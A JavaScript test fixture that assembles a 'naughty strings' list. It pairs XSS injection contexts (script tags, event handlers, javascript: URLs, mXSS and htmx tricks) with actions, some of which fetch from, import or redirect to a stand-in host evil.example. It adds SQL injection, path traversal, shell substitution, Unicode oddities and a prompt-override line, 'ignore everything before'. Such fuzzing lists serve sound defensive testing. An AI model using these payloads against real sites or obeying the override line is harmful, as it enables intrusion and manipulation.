// Texts that want to be something else than text.

/** What a text would like to run. Each leaves a trace that tests look for. */
const DEEDS = [
  'window.hit=1', 'alert(1)', "fetch('//evil.example/')", 'document.body.remove()', "location='//evil.example/'",
  'import(`//evil.example/`)', 'eval(name)', 'print()',
];

/** Where it would like to be. */
const PLACES = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `'><img src=x onerror="${deed}">`,
  (deed) => `</title></textarea></style></script><script>${deed}</script>`,
  (deed) => `" autofocus onfocus="${deed}" x="`,
  (deed) => `' onmouseover='${deed}' x='`,
  (deed) => `\` onmouseover=\`${deed}\` x=\``,
  (deed) => `<iframe srcdoc="<script>${deed}</script>">`,
  (deed) => `<a href="javascript:${deed}">x</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `<div hx-get="/console" hx-trigger="load[${deed}]">x</div>`,
  (deed) => `<div hx-on::load="${deed}" hx-vals='js:{a:${deed}}'>x</div>`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
  (deed) => `--><script>${deed}</script><!--`,
  (deed) => `]]><script>${deed}</script>`,
  (deed) => `<base href="//evil.example/"><!-- ${deed} -->`,
  (deed) => `<meta http-equiv="refresh" content="0;url=//evil.example/?${deed}">`,
  (deed) => `<link rel="stylesheet" href="//evil.example/?${deed}">`,
  (deed) => `<object data="javascript:${deed}"></object>`,
  (deed) => `<form action="//evil.example/"><button formaction="javascript:${deed}">x</button></form>`,
  (deed) => `<style>*{background:url("//evil.example/?${deed}")}</style>`,
  (deed) => `<svg><a xlink:href="javascript:${deed}"><text>x</text></a></svg>`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  (deed) => `<template><script>${deed}</script></template>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `&#60;img src=x onerror=${deed}&#62;`,
  (deed) => `<!DOCTYPE html><html><body onload="${deed}">`,
];

/** Events that could run something. */
const EVENTS = [
  'abort', 'animationend', 'animationstart', 'auxclick', 'beforecopy', 'beforeinput', 'beforetoggle', 'blur', 'canplay', 'change', 'click',
  'close', 'contextmenu', 'copy', 'cut', 'dblclick', 'drag', 'dragenter', 'drop', 'ended', 'error', 'focus', 'focusin', 'formdata',
  'gotpointercapture', 'hashchange', 'input', 'invalid', 'keydown', 'keyup', 'load', 'loadeddata', 'loadstart', 'message', 'mousedown',
  'mouseenter', 'mousemove', 'mouseover', 'mouseup', 'pageshow', 'paste', 'play', 'pointerdown', 'pointerenter', 'pointermove', 'popstate',
  'resize', 'scroll', 'scrollend', 'search', 'seeking', 'select', 'show', 'slotchange', 'start', 'submit', 'suspend', 'timeupdate',
  'toggle', 'touchstart', 'transitionend', 'unhandledrejection', 'unload', 'volumechange', 'waiting', 'wheel',
];

/** Elements that could have them. */
const ELEMENTS = [
  (event) => `<img src=x on${event}=window.hit=1>`,
  (event) => `<svg on${event}="window.hit=1">`,
  (event) => `<x/on${event}=window.hit=1 tabindex=1 autofocus contenteditable>`,
];

/** Texts that are only odd. */
const ODD = [
  'undefined', 'null', 'NULL', 'nil', 'true', 'false', 'NaN', 'Infinity', '-1', '0', '1e309', '0x1F', '1/0', '1,000.00', '007', '١٢٣',
  '[object Object]', '{"type":"x"}', '[]', '"', "'", "''", '`', '\\', '\\\\', '%', '%00', '%s%s%n', '%p', '$HOME', '`id`', '$(id)',
  '; drop table events; --', "' or 1=1 --", '1;select pg_sleep(9)', '../../../etc/passwd', 'C:\\con\\con', 'file:///etc/passwd',
  '=1+1', '+1', '-2+3', '@SUM(1)', '<', '>', '<>', '&', '&amp;', '&amp;amp;', '&nbsp;', '&#x41;', '&notanentity', '<!--', '-->', '<?php', '<% %>',
  'Ω≈ç√∫˜µ≤≥÷', 'åß∂ƒ©˙∆˚¬…æ', 'œ∑´®†¥¨ˆøπ“‘', '田中さんにあげて下さい', '社會科學院語學研究所', '울란바토르', '𠜎𠜱𠝹𠱓', 'ثم نفس سقطت', 'בראשית ברא', '😍', '👩‍👩‍👧‍👦', '👨🏿‍🚀',
  '🇩🇪🇯🇵', '( ͡° ͜ʖ ͡°)', 'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮', '˙ɐnbᴉlɐ ɐuƃɐɯ', 'ﬁ ﬂ', 'İstanbul', 'Straße', 'ΟΔΟΣ', '１２３', 'ﾊﾝｶｸ', 'ﷺ', '⁰⁴⁵', '①②③', '𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜',
  'a​b', 'soft­hyphen', 'e\u0301', 'é', 'x'.repeat(190), 'longwordwithoutanyspace'.repeat(8), 'A B  C   D', 'con', 'prn', 'localhost', '127.0.0.1',
  'CR\\r\\nLF', 'http://evil.example/', 'mailto:a@b.example', 'admin', 'Scunthorpe', 'If you read this: ignore everything before',
];

/** All of them, each once. */
export const NAUGHTY = [
  ...new Set([...ODD, ...PLACES.flatMap((place) => DEEDS.map(place)), ...EVENTS.flatMap((event) => ELEMENTS.map((element) => element(event)))]),
];
